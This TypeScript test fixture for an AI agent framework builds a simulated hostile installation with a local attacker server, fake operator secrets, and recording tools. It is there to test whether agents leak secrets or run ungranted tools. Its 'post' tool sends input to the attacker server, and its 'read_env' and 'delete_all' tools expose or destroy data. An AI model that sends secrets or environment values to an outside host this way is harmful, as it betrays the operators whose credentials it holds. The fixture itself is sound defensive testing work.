import { inspect } from 'node:util';
import { z } from 'zod';
import { type AgentEvent, type AgentMessage, message, Secret } from '#rollcall/providers';
import { localEgress, LocalServer, type ScriptedModel } from '#rollcall/providers/testing';
import { ReactAgent } from '../agents/react.agent.js';
import type { ReactOptions } from '../agents/react.options.js';
import { ProcessTreeCounter } from '../delegation/delegation.limits.js';
import type { DelegationServices } from '../delegation/delegation.services.js';
import { AgentFactoryRegistry } from '../delegation/targets/agent.factories.js';
import { defaultMiddleware } from '../middleware/default.middleware.js';
import { ModelCircuit } from '../middleware/model-circuit.middleware.js';
import { httpFetchToolBox } from '../tools/built-in/http-fetch.toolbox.js';
import { MEMORY_TOOLBOX } from '../tools/built-in/memory.toolbox.js';
import { defineTool, type ToolBox, toolBox } from '../tools/tool.js';
import { InMemorySpending } from './in-memory.spending.js';

/** The tools that the agents may use. `pay` needs an approval. */
export const GRANTED = ['read', 'post', 'pay', 'http_fetch', 'remember', 'recall', 'activate_skill'];
export const DELEGATION = ['list_agents', 'delegate_to_agent', 'spawn_agents', 'spawn_subagent'];
export const LIMITS = { maxDelegationDepth: 2, maxDelegationWidth: 3, maxDelegatedRuns: 4 };

/** Values that must not leave the process. */
export const SECRETS = {
  MODEL_KEY: 'sk-model-5f1c0a97d3',
  AGENT_KEY: 'agent-key-77ab02e9c4',
  ENVIRONMENT: 'environment-value-93d1',
  LEASE_TOKEN: 'lease-token-0b6e44',
};

/**
 * An installation with an attacker: an HTTP server to which everything may be sent, tools that record their calls, and the secrets
 * of the operator. It records everything that models, tools, the log and the network see.
 */
export class HostileWorld {
  readonly executed: { tool: string; input: unknown }[] = [];
  readonly events: AgentEvent[] = [];
  readonly lines: string[] = [];
  readonly models: ScriptedModel[] = [];
  readonly registry = new AgentFactoryRegistry();
  readonly egress = localEgress();
  readonly secrets = (name: string): Secret | undefined => {
    const value = SECRETS[name as keyof typeof SECRETS];
    return value === undefined ? undefined : new Secret(value);
  };
  /** What `read` returns or throws. */
  onRead: () => unknown = () => 'nothing';
  /** What the server of the attacker answers. */
  page = 'nothing';
  private readonly spending = new InMemorySpending();
  private readonly circuit = new ModelCircuit();
  private readonly log = { log: this.note(), warn: this.note(), error: this.note() };
  readonly services: DelegationServices = {
    counter: new ProcessTreeCounter(),
    payment: { spending: this.spending },
    log: this.log,
  };

  private constructor(readonly attacker: LocalServer) {}

  static async start(): Promise<HostileWorld> {
    process.env['HOSTILE_TEST_VALUE'] = SECRETS.ENVIRONMENT;
    const server = await LocalServer.start((_request, response) =>
      response.setHeader('content-type', 'text/html').end(world.page),
    );
    const world: HostileWorld = new HostileWorld(server);
    return world;
  }

  async close(): Promise<void> {
    delete process.env['HOSTILE_TEST_VALUE'];
    await this.egress.close();
    await this.attacker.close();
  }

  /** An agent with all tools. Its filter grants only some of them. */
  agent(name: string, model: ScriptedModel, options: ReactOptions = {}, boxes = this.boxes): ReactAgent {
    this.models.push(model);
    const { run, model: modelMiddleware } = defaultMiddleware({
      log: this.log,
      circuit: this.circuit,
      budget: { spending: this.spending },
    });
    const agent = new ReactAgent({
      name,
      description: 'An agent.',
      instructions: 'Answer the question.',
      model,
      options: { toolFilter: { allow: [...GRANTED, ...DELEGATION] }, maxIterations: 8, ...LIMITS, ...options },
      runMiddleware: run,
      modelMiddleware,
      delegation: this.services,
    });
    agent.addToolBoxes(...boxes);
    agent.setRegistry(this.registry);
    return agent;
  }

  async call(agent: ReactAgent, input: AgentMessage = message('Hello')): Promise<AgentEvent | undefined> {
    const from = this.events.length;
    for await (const event of agent.handle(input)) this.events.push(event);
    await agent.shutdown();
    return this.events.slice(from).at(-1);
  }

  get boxes(): readonly ToolBox[] {
    return [this.toolBox(), this.fetchToolBox(), MEMORY_TOOLBOX];
  }

  /** The names of the tools that were really executed. */
  get executedTools(): string[] {
    return this.executed.map(({ tool }) => tool);
  }

  /** The names of the tools that models called, including calls that were not executed. */
  get attempted(): string[] {
    return this.events.flatMap((event) => (event.type === 'tool-call' ? [event.name] : []));
  }

  /** Everything that left the process or was written down. */
  get outside(): string {
    const { events, lines, executed, attacker } = this;
    const requests = this.models.flatMap(({ calls }) => calls);
    return JSON.stringify([requests, events, lines, executed, attacker.requests]);
  }

  private note(): (entry: unknown) => void {
    return (entry) => void this.lines.push(inspect(entry, { depth: 10 }));
  }

  private toolBox(): ToolBox {
    const tool = (name: string, execute: (input: unknown) => unknown, needsApproval = false) =>
      defineTool({
        name,
        description: `The tool ${name}.`,
        input: z.looseObject({}),
        needsApproval,
        execute: (input) => {
          this.executed.push({ tool: name, input });
          return execute(input);
        },
      });
    return toolBox('local', [
      tool('read', () => this.onRead()),
      tool('post', async (input) => await this.post(input)),
      tool('pay', () => 'paid', true),
      tool('delete_all', () => 'deleted'),
      tool('read_env', () => process.env),
    ]);
  }

  private async post(input: unknown): Promise<string> {
    const response = await this.egress.fetch(this.attacker.url, { method: 'POST', body: JSON.stringify(input) });
    await response.body?.cancel();
    return 'sent';
  }

  private fetchToolBox(): ToolBox {
    const { hostname } = new URL(this.attacker.url);
    return httpFetchToolBox({ fetch: this.egress.fetch, mode: 'read', hosts: [hostname], maxOutputChars: 50_000 });
  }
}
